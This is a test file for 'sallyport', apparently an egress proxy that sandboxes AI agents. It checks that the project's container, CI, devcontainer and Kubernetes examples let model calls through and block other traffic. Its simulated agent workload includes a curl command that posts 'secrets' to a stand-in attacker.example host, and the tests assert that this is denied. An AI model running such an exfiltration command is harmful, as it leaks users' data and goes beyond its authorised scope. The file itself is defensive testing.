// examples/, run: their scripts with an engine or a cluster that is played, their proxy and their clients for real.

import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { parse, stringify } from "yaml";
import { manifestsIn, type Manifest, preparedTree, ROOT, validate } from "../support/kubernetes.ts";
import { createCa } from "../support/pki.ts";
import { plainEnvironment, startRealSallyport } from "../support/real-sallyport.ts";
import { run } from "../support/run.ts";
import { recordingOrigin, type RecordingOrigin } from "../support/recording-origin.ts";
import { allowRule, npmRegistry } from "./machine.ts";
import { describeWith } from "./sandbox.ts";
import { disposeAll, temporary } from "./suite.ts";

const EXAMPLES = join(ROOT, "examples");

describeWith("examples", ["curl", "git", "jq", "kubectl", "openssl", "npm", "python3"], () => {
  const open: AsyncDisposable[] = [];
  let directory: string;
  let model: RecordingOrigin;
  let attacker: RecordingOrigin;
  let docs: RecordingOrigin;
  /** What the examples' proxy is told beside their file. */
  let upstream: { trust: string[]; hosts: Record<string, string[]> };
  let places = 0;

  beforeAll(async () => {
    const files = await temporary("sallyport-examples-");
    directory = files.path;
    const ca = createCa();
    const root = join(directory, "root.pem");
    await writeFile(root, ca.cert);
    model = await recordingOrigin(ca.issue({ names: ["api.anthropic.com"] }));
    attacker = await recordingOrigin(ca.issue({ names: ["attacker.example"] }));
    docs = await recordingOrigin(ca.issue({ names: ["docs.example"] }));
    upstream = {
      trust: [root],
      hosts: {
        "api.anthropic.com": ["127.0.0.1"],
        "attacker.example": ["127.0.0.1"],
        "docs.example": ["127.0.0.1"],
      },
    };
    open.push(files, model, attacker, docs);
  });
  afterAll(() => disposeAll(open));
  beforeEach(() => {
    model.reset();
    attacker.reset();
  });

  /** A directory with programs of these names, each a script. */
  function place(programs: Readonly<Record<string, string>>) {
    const at = join(directory, `place-${places++}`);
    mkdirSync(join(at, "bin"), { recursive: true });
    for (const [name, script] of Object.entries({ sallyport: SALLYPORT, ...programs })) {
      writeFileSync(join(at, "bin", name), `#!/bin/sh\n${script}\n`);
      chmodSync(join(at, "bin", name), 0o755);
    }
    return at;
  }

  function engine(): { at: string; env: Record<string, string>; calls: () => string[][] } {
    const play = `exec "${process.execPath}" "${ROOT}/test/support/engine.ts" "$0.state" "${ROOT}/bin/sallyport.js" "$@"`;
    const at = place({ docker: play });
    const state = join(at, "bin", "docker.state");
    mkdirSync(state);
    const calls = () =>
      readFileSync(join(state, "calls"), "utf8")
        .trim()
        .split("\n")
        .map((line) => JSON.parse(line));
    return { at, env: environment(at, { TEST_CONFIG: JSON.stringify({ upstream }) }), calls };
  }

  function environment(at: string, more: Readonly<Record<string, string>> = {}): Record<string, string> {
    return { ...plainEnvironment(), HOME: at, ...more, PATH: `${at}/bin:${process.env["PATH"]}` };
  }

  /** An agent's work: it asks its model, and sends something away. */
  const work = (): string =>
    [
      `curl -sS --data question https://api.anthropic.com:${model.port}/v1/messages`,
      `curl -sS --data secrets https://attacker.example:${attacker.port}/ || true`,
    ].join(" && ");

  function expectWorked(): void {
    expect(model.received).toMatch(/^POST \/v1\/messages HTTP\/1\.1\r\n/);
    expect(attacker.connections).toBe(0);
  }

  test("container: the command runs behind the wall, and is told what was refused", async () => {
    const { at, env, calls } = engine();
    const ran = await run(join(EXAMPLES, "container/run.sh"), ["image", "sh", "-c", work()], {
      cwd: at,
      env,
    });
    expect(ran, ran.stderr).toMatchObject({ status: 0 });
    expect(ran.stderr).toMatch(/deny.*CONNECT attacker\.example:\d+ {2}host-not-allowed/);
    expectWorked();
    const all = calls().map((call) => call.join(" "));
    expect(all[0]).toBe("network create --internal sandboxes");
    const [proxy, container] = all.filter((call) => call.startsWith("run "));
    expect(proxy).toMatch(/--read-only --cap-drop ALL --security-opt no-new-privileges/);
    expect(proxy).not.toMatch(/--network|--publish|-p /);
    expect(container).toMatch(/--network sandboxes --dns 127\.0\.0\.1 --cap-drop ALL/);
    // The volume with the issuer's key is not the container's.
    expect(container).not.toMatch(/sallyport:\/var\/lib/);
    expect(all.slice(-2)).toEqual(["rm --force sallyport", "network rm sandboxes"]);
  });

  test("container: the command's end is the script's, and nothing is left behind", async () => {
    const { at, env, calls } = engine();
    expect(
      await run(join(EXAMPLES, "container/run.sh"), ["image", "sh", "-c", "exit 7"], { cwd: at, env }),
    ).toMatchObject({ status: 7 });
    expect(calls().at(-1)).toEqual(["network", "rm", "sandboxes"]);
  });

  test("GitHub Actions: the job's steps, in their order", async () => {
    const { at, env } = engine();
    const { jobs, permissions } = parse(readFileSync(join(EXAMPLES, "github-actions/agent.yaml"), "utf8"));
    expect(permissions).toEqual({ contents: "read" });
    const summary = join(at, "summary");
    const job = { ...env, ...jobs.agent.env, AGENT: work(), RUNNER_TEMP: at, GITHUB_STEP_SUMMARY: summary };
    for (const step of jobs.agent.steps) {
      if (step.uses !== undefined) expect(step.with).toEqual({ "persist-credentials": false });
      else {
        const ran = await run("bash", ["-e", "-o", "pipefail", "-c", step.run], { cwd: ROOT, env: job });
        expect(ran, ran.stderr).toMatchObject({ status: 0 });
      }
    }
    expectWorked();
    expect(readFileSync(summary, "utf8")).toMatch(/attacker\.example/);
    await run(join(EXAMPLES, "container/wall.sh"), ["down"], { cwd: at, env });
  });

  test("devcontainer: what comes before it makes what it is given", async () => {
    const { at, env } = engine();
    const file = readFileSync(join(EXAMPLES, "devcontainer/devcontainer.json"), "utf8");
    const { initializeCommand, runArgs, mounts } = JSON.parse(file.replace(/^\/\/.*$/gm, ""));
    // No such network yet.
    const played = readFileSync(join(at, "bin/docker"), "utf8");
    writeFileSync(
      join(at, "bin/docker"),
      played.replace("exec", '[ "$1 $2" != "network inspect" ] || exit 1\nexec'),
    );
    execFileSync("ln", ["-s", EXAMPLES, join(at, "examples")]);
    const ran = await run("sh", ["-c", initializeCommand], { cwd: at, env });
    expect(ran, ran.stderr).toMatchObject({ status: 0 });
    const paths = [...runArgs, ...mounts].flatMap(
      (one: string) => /(?:^--env-file=|^source=)([^,]+)/.exec(one)?.[1] ?? [],
    );
    expect(paths).toHaveLength(2);
    for (const path of paths)
      expect([
        path,
        existsSync(path.replace("${localWorkspaceFolder}", at).replace(/^\./, `${at}/.`)),
      ]).toEqual([path, true]);
    const args = runArgs.flatMap((one: string) => one.split("="));
    const given = ["--volume", `${at}/.sallyport/files:/etc/sallyport:ro`];
    expect(
      await run("docker", ["run", ...args, ...given, "image", "sh", "-c", work()], { cwd: at, env }),
    ).toMatchObject({ status: 0 });
    expectWorked();
    await run(join(EXAMPLES, "container/wall.sh"), ["down"], { cwd: at, env });
  });

  test("Kubernetes: a pod that the wall's namespace admits, whose command works with what it is given", async () => {
    using tree = preparedTree("");
    const at = place({
      kubectl: `case "$*" in *"get service"*) echo 10.96.0.28 ;; *apply*) cat >"$0.applied" ;; esac\necho "$*" >>"$0.calls"`,
    });
    const ran = await run(join(EXAMPLES, "kubernetes/run.sh"), [], { cwd: at, env: environment(at) });
    expect(ran, ran.stderr).toMatchObject({ status: 0 });
    const [pod] = manifestsIn(readFileSync(join(at, "bin/kubectl.applied"), "utf8"));
    if (pod === undefined) throw new Error("nothing was applied");
    await validate([pod]);
    const sandboxes = tree.render("sandboxes");
    const { spec } = pod;
    expect(pod.metadata.namespace).toBe(sandboxes.find(({ kind }) => kind === "Namespace")?.metadata.name);
    expect(spec).toMatchObject({
      automountServiceAccountToken: false,
      enableServiceLinks: false,
      dnsPolicy: "None",
      hostAliases: [{ ip: "10.96.0.28", hostnames: ["sallyport.sallyport.svc"] }],
    });
    for (const key of ["hostNetwork", "hostPID", "hostIPC"]) expect(spec[key]).toBeUndefined();
    const [container] = spec.containers;
    const secret = named(sandboxes, "Secret", container.envFrom[0].secretRef.name);
    const files = named(sandboxes, "ConfigMap", spec.volumes[0].configMap.name);
    expect(Object.keys({ ...files.data, ...files["binaryData"] }).toSorted()).toEqual([
      "apt.conf",
      "bundle.pem",
      "ca.pem",
      "truststore.p12",
      "wgetrc",
    ]);

    const registry = npmRegistry();
    const token = readFileSync(join(tree.directory, "keys/sallyport.env"), "utf8").split(/[=\n]/)[1];
    await using proxy = await startRealSallyport(`
ca: { cert: ${tree.directory}/keys/ca.pem, key: ${tree.directory}/keys/ca.key }
policies: { default: { preset: common-dependencies, allow: ${await allowRule([registry])} } }
sandboxes: [{ id: agent, secret: "${token}", policy: default }]
`);
    const variables = Object.entries<string>(secret.data).map(([name, value]) => [
      name,
      Buffer.from(value, "base64")
        .toString()
        .replace("sallyport.sallyport.svc:3128", `127.0.0.1:${proxy.port}`)
        .replace("/etc/sallyport", `${tree.directory}/sandboxes/files`),
    ]);
    const env = { ...environment(at), ...Object.fromEntries(variables), npm_config_registry: registry.href };
    const [program, ...args] = container.command;
    const worked = await run(program, args, { cwd: at, env });
    expect(worked, worked.stderr).toMatchObject({
      status: 0,
      stdout: expect.stringMatching(/^\d+\.\d+\.\d+\n$/),
    });
    const records = await proxy.records();
    expect(records).toContainEqual(
      expect.objectContaining({
        type: "decision",
        verdict: "allow",
        sandbox: "agent",
        host: registry.hostname,
      }),
    );
  }, 60_000);

  test("runtime: a sandbox's whole day", async () => {
    const registry = npmRegistry();
    const config = parse(readFileSync(join(EXAMPLES, "runtime.yaml"), "utf8"));
    config.policies.setup.allow = parse(await allowRule([registry]));
    // Opens the address alone.
    config.policies.agent.allow.push({ host: "api.anthropic.com", networks: ["127.0.0.0/8"] });
    config.policies.agent.allow.push({ host: "docs.example", methods: ["HEAD"], networks: ["127.0.0.0/8"] });
    await using proxy = await startRealSallyport(
      stringify({ ...config, upstream: { ...upstream, trust: ["system", ...upstream.trust] } }),
    );
    const at = place({});
    const env = environment(at, {
      ADMIN_URL: `http://127.0.0.1:${proxy.adminPort}`,
      CONFIG: join(proxy.directory, "sallyport.yaml"),
      REGISTRY: registry.href,
      ATTACKER_URL: `https://attacker.example:${attacker.port}/collect`,
      WANTED_URL: `https://docs.example:${docs.port}/page`,
    });
    const ran = await run(join(EXAMPLES, "runtime.sh"), [], { cwd: at, env });
    expect(ran, ran.stdout + ran.stderr).toMatchObject({ status: 0 });
    expect(attacker.connections).toBe(0);
    expect(docs.received.match(/^GET \/page /gm)).toHaveLength(1);
    const [id = ""] = /^sandbox-\w+$/m.exec(ran.stdout) ?? [];
    const records = await proxy.records();
    const decisions = records.filter((one) => one.type === "decision" && one["sandbox"] === id);
    const told = decisions.map((one) => [one["phase"], one["host"], one["verdict"], one["reason"]].join(" "));
    expect(told).toContain(`setup ${registry.hostname} allow `);
    expect(told).toContain("agent attacker.example deny approval-required");
    expect(told).toContain(`agent ${registry.hostname} deny approval-required`);
    expect(told).toContain("agent docs.example deny approval-required");
    expect(told).toContain("agent docs.example allow ");
    expect(decisions[0]).toMatchObject({ labels: { repository: "example/project", task: "42" } });
    const actions = records.flatMap(({ type, fields }) =>
      type === "control" ? [(fields as { action: string }).action] : [],
    );
    expect(actions.filter((action) => !/^token|expire$/.test(action))).toEqual([
      "sandbox.register",
      "sandbox.move",
      "approval.ask",
      "approval.ask",
      "approval.ask",
      "approval.allow",
      "sandbox.end",
    ]);
    expect((await proxy.sallyport(["audit", "verify"])).stdout).toMatch(/^whole: /);
  }, 120_000);

  describe("agents", () => {
    const told = [
      ...readFileSync(join(EXAMPLES, "README.md"), "utf8").matchAll(
        /^\| ([\w ]+) \| (`HTTPS_PROXY`.*) \|$/gm,
      ),
    ];
    const agents = told.map(([, agent = "", variables = ""]) => ({
      agent,
      variables: [...variables.matchAll(/`(\w+)`/g)].map(([, name = ""]) => name),
    }));

    /** A client of the library that the agent is made with. */
    const clientOf = (variables: readonly string[]): string[] =>
      variables.includes("NODE_EXTRA_CA_CERTS")
        ? [process.execPath, "--input-type=module", "--eval", UNDICI]
        : ["sh", "-c", 'curl -sS --data "$2" "$1" || true', "sh"];

    test.each(agents)(
      "$agent: what it reads is enough, and nothing leaves but what may",
      async ({ variables }) => {
        const policies = policiesOf(join(EXAMPLES, "container/sallyport.yaml"));
        await using proxy = await startRealSallyport(stringify({ upstream, ...policies }));
        // The proxy took a free port, which its file does not tell.
        const at = place({ sallyport: `${SALLYPORT} --proxy ${proxy.url}` });
        const options = { cwd: proxy.directory, env: environment(at) };
        const printed = await run(join(EXAMPLES, "agents/agent.sh"), ["env"], options);
        const set = new Map(
          printed.stdout.split("\n").map((line) => line.split(/=(.*)/s) as [string, string]),
        );
        expect([...set.keys()]).toEqual(expect.arrayContaining(variables));
        const only = variables.map((name) => [name, set.get(name) ?? ""]);
        const bare = { PATH: process.env["PATH"] ?? "", NODE_PATH: "", ...Object.fromEntries(only) };
        const [program = "", ...args] = clientOf(variables);
        const send = (to: string, what: string) =>
          run(program, [...args, to, what], { cwd: ROOT, env: bare });
        await send(`https://api.anthropic.com:${model.port}/v1/messages`, "question");
        const refused = await send(`https://attacker.example:${attacker.port}/`, "secrets");
        expectWorked();
        expect(refused.stdout + refused.stderr).toMatch(/403|host-not-allowed/);
      },
    );

    test("there are some", () => expect(agents.length).toBeGreaterThanOrEqual(3));
  });
});

/** The examples' policies, for origins on the loopback. */
function policiesOf(file: string): object {
  const { policies, anonymous } = parse(readFileSync(file, "utf8"));
  for (const rule of policies.default.allow) rule.networks = ["127.0.0.0/8"];
  return { policies, anonymous };
}

function named(all: readonly Manifest[], kind: string, name: string): Manifest {
  const found = all.find((of) => of.kind === kind && of.metadata.name === name);
  if (found === undefined) throw new Error(`there is no ${kind} ${name}`);
  return found;
}

const SALLYPORT = `exec "${ROOT}/bin/sallyport.js" "$@"`;
const UNDICI = `import { EnvHttpProxyAgent, request } from "undici";
const [url, body] = process.argv.slice(1);
const { body: answer } = await request(url, { method: "POST", body, dispatcher: new EnvHttpProxyAgent() });
console.log(await answer.text());`;
